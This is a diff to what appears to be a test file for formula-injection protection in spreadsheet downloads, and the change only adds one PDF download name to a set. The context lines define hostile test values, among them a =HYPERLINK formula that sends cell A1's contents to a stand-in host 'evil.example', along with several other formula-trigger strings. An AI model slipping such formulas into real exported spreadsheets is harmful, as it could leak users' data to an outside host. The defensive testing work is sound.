@@ -47,7 +47,13 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
 # One text per character a spreadsheet program may read as the start of a formula; each names "evil".
 HOSTILE = (HYPERLINK, "+evil()", "-evil()", "@evil()", "\t=evil()", "\r=evil()", "=1+1 evil")
 # The PDFs among the downloads: no spreadsheet program opens them.
-PDF_DOWNLOADS = {"cases:plan_pdf", "network:case_info_sheet", "network:sheet_pdf", "reports:pdf"}
+PDF_DOWNLOADS = {
+    "cases:plan_pdf",
+    "network:case_info_sheet",
+    "network:sheet_pdf",
+    "reports:pdf",
+    "arrivals:arrival_info_sheet",
+}
 # Spreadsheets that carry no stored text: the blank import templates and the documented example.
 WITHOUT_STORED_TEXT = {"imports:template", "imports:example"}
 # Files written by a background job (lotse.core.downloads): the file's URL, and where it is asked for.
